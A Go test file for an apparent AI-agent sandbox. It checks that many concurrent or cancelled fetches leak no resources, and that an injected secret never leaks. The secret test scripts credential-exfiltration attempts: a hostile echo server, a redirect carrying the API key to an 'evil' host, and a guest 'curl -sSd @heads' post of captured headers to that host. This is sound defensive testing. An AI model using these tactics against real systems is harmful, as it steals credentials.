//go:build !js

package core

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"os"
	goruntime "runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"agentsandbox/core/fetch"
)

// held is what the process holds.
type held struct {
	heap              uint64
	goroutines, files int
}

func holds() held {
	goruntime.GC()
	var m goruntime.MemStats
	goruntime.ReadMemStats(&m)
	files, _ := os.ReadDir("/proc/self/fd")
	return held{m.HeapAlloc, goruntime.NumGoroutine(), len(files)}
}

// no more than before, within what the runtime and idle connections come to.
func (h held) atMost(before held) bool {
	return h.heap <= before.heap+8<<20 && h.goroutines <= before.goroutines+20 && h.files <= before.files+20
}

// THREAT[HT-06] Ten thousand requests through one sandbox, fifty at once, some
// of them cancelled in the middle, by its host and by its guests: memory is flat,
// and nothing is left open.
func TestManyFetches(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, strings.Repeat("0123456789abcdef", 256))
		for err := error(nil); r.URL.Path == "/endless" && err == nil; {
			_, err = io.WriteString(w, strings.Repeat("0123456789abcdef", 256))
		}
	}))
	defer server.Close()
	policy := openTo(t, server)
	policy.MaxRequestsPerMinute = 1 << 20
	sb := newSandbox(t, Config{FetchPolicy: policy})
	round := func(host, guest int) {
		var wg sync.WaitGroup
		for range 50 {
			wg.Go(func() {
				for i := range host / 50 {
					fetchOne(t, sb, server.URL, i%20 == 19)
				}
			})
		}
		wg.Wait()
		script := fmt.Sprintf("for i in {1..%d}; do curl -s $U/ | wc -c; curl -s $U/endless | head -c 5 >/dev/null; done | sort | uniq -c", guest/2)
		r, err := sb.Run(t.Context(), Cmd{Name: "bash", Args: []string{"-c", script}, Env: map[string]string{"U": server.URL}})
		if want := fmt.Sprintf("%7d 4096\n", guest/2); err != nil || string(r.Stdout) != want {
			t.Errorf("%s%s %v", r.Stdout, r.Stderr, err)
		}
	}
	round(1000, 100)
	before := holds()
	round(8000, 900)
	var after held
	for range 200 { // connections that were let go end in their own time
		if after = holds(); after.atMost(before) {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Logf("before %+v, after %+v", before, after)
	if !after.atMost(before) {
		t.Errorf("before %+v, after %+v", before, after)
	}
}

// fetchOne makes one request from the host, and may end it in the middle.
func fetchOne(t *testing.T, sb *Sandbox, url string, cancel bool) {
	if !cancel {
		resp, err := sb.Fetch(t.Context(), fetch.Request{URL: url + "/"})
		if err != nil || len(resp.Body) != 4096 {
			t.Error(err)
		}
		return
	}
	ctx, stop := context.WithCancel(t.Context())
	resp, err := sb.Fetch(ctx, fetch.Request{URL: url + "/endless", Stream: true})
	if err != nil {
		t.Error(err)
		stop()
		return
	}
	defer resp.Stream.Close()
	if _, err := io.ReadFull(resp.Stream, make([]byte, 100)); err != nil {
		t.Error(err)
	}
	stop()
	if _, err := io.Copy(io.Discard, resp.Stream); err == nil {
		t.Error("the body came to its end")
	}
}

const secretCanary = "canary-7b1f0c55-of-the-host"

// THREAT[SE-02] A secret that the policy injects reaches its host, and is found
// nowhere else: not in what guests see, nor in their memory, their files, errors,
// the log or the diff.
func TestSecretIsNowhere(t *testing.T) {
	var seen sync.Map
	var evil *httptest.Server
	handler := func(w http.ResponseWriter, r *http.Request) {
		seen.Store(r.Host+r.URL.Path, r.Header.Get("Authorization") == "Bearer "+secretCanary)
		w.Header().Set("X-Echo", r.Header.Get("Authorization"))
		w.Header().Set("Set-Cookie", "stolen="+r.Header.Get("X-Api-Key"))
		switch r.URL.Path {
		case "/away":
			http.Redirect(w, r, evil.URL+"/?"+r.Header.Get("X-Api-Key"), http.StatusTemporaryRedirect)
		case "/drip":
			for _, c := range r.Header.Get("X-Api-Key") {
				io.WriteString(w, string(c))
				http.NewResponseController(w).Flush()
			}
		case "/break":
			w.Header().Set("Content-Length", "9999")
			io.WriteString(w, r.Header.Get("X-Api-Key"))
		default:
			r.Header.Write(w)
			fmt.Fprintf(w, "%v", r.Header)
		}
	}
	server := httptest.NewServer(http.HandlerFunc(handler))
	evil = httptest.NewServer(http.HandlerFunc(handler))
	defer server.Close()
	defer evil.Close()
	var logged bytes.Buffer
	log.SetOutput(&logged)
	defer log.SetOutput(os.Stderr)

	var events []fetch.Event
	policy := openTo(t, server)
	policy.AllowedDomains = append(policy.AllowedDomains, evil.Listener.Addr().String())
	policy.Inject = []fetch.Injection{{Host: server.Listener.Addr().String(), HTTP: true, Headers: map[string]string{
		"Authorization": "Bearer ${TOKEN}", "X-Api-Key": "${TOKEN}",
	}}}
	policy.Secret = func(string) (string, bool) { return secretCanary, true }
	policy.Log = func(e fetch.Event) { events = append(events, e) }
	sb := newSandbox(t, Config{FetchPolicy: policy})
	session := sb.Session()
	defer session.Close()
	script := strings.NewReplacer("$U", server.URL, "$E", evil.URL).Replace(`
		curl -sv -H 'Authorization: mine' -H 'X-Api-Key: mine' $U/; curl -si $U/drip -o drip -D heads -c jar --trace-ascii t; curl -sSv -L --location-trusted $U/away
		curl -sS $U/break -w '%{json}%{header_json}'; wget -S -O - $U/; wget -q $U/away; wget -q -O broken -t 1 $U/break; curl -sSd @heads $E/
		curl -s --compressed $U/; curl -sL $U/away -o away; env; set; cat *; curl -sS $U/nowhere:x@`)
	r, err := session.Exec(t.Context(), script)
	if err != nil {
		t.Fatal(err)
	}
	var places bytes.Buffer
	fmt.Fprintf(&places, "%s%s%+v", r.Stdout, r.Stderr, r)
	for _, url := range []string{server.URL + "/", server.URL + "/away", server.URL + "/break", evil.URL + "/"} {
		resp, err := sb.Fetch(t.Context(), fetch.Request{URL: url})
		fmt.Fprintf(&places, "%+v %v", resp, err)
		if resp != nil {
			places.Write(resp.Body)
		}
	}
	changes, err := sb.Diff()
	fmt.Fprintf(&places, "%+v %+v %v %s", changes, events, err, &logged)
	for _, c := range changes {
		data, _ := sb.ReadFile(c.Path)
		places.Write(data)
	}
	memory := session.in.Memory()
	guest := make([]byte, memory.Size())
	if !memory.Read(guest, 0) {
		t.Fatal("the guest's memory can't be read")
	}
	for name, text := range map[string][]byte{"output, files, diff, errors or log": places.Bytes(), "guest memory": guest} {
		if at := bytes.Index(text, []byte(secretCanary)); at >= 0 {
			t.Errorf("the secret is in %s: %q", name, text[max(0, at-200):min(len(text), at+100)])
		}
	}
	if !bytes.Contains(guest, []byte("X-Echo")) || len(changes) == 0 || len(events) < 10 {
		t.Errorf("nothing was looked at: %d changes, %d events", len(changes), len(events))
	}
	seen.Range(func(place, had any) bool {
		if (had == true) != strings.HasPrefix(place.(string), server.Listener.Addr().String()) {
			t.Errorf("%s had the secret: %v", place, had)
		}
		return true
	})
}
